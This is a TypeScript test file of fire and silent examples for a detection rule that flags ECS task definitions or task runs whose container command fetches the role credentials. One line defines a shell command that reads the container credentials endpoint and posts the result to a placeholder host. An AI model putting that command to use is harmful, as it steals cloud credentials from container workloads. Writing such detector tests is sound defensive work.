import { apiCall } from '../../test/events.ts'
import { defineExamples } from '../../test/examples.ts'

const register = (command: readonly string[]) =>
  apiCall('ecs:RegisterTaskDefinition', {
    requestParameters: {
      family: 'orders',
      containerDefinitions: [{ name: 'web', image: 'example.com/web:1', command }],
    },
  })

const steal = ['sh', '-c', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- example.com']

export default defineExamples({
  fires: [
    {
      event: register(steal),
      title: 'alice had a container of ECS task orders fetch the credentials of its role',
      severity: 'high',
    },
    {
      event: apiCall('ecs:RunTask', {
        requestParameters: {
          taskDefinition: 'arn:aws:ecs:us-east-1:111122223333:task-definition/mail:12',
          overrides: { containerOverrides: [{ name: 'web', command: steal }] },
        },
      }),
      title: 'alice had a container of ECS task mail fetch the credentials of its role',
    },
  ],
  silent: [
    { event: register(['node', 'server.js']), because: 'the program gets its credentials by itself' },
    { event: register(['curl', 'http://169.254.170.23/']), because: 'it is another address' },
  ],
})
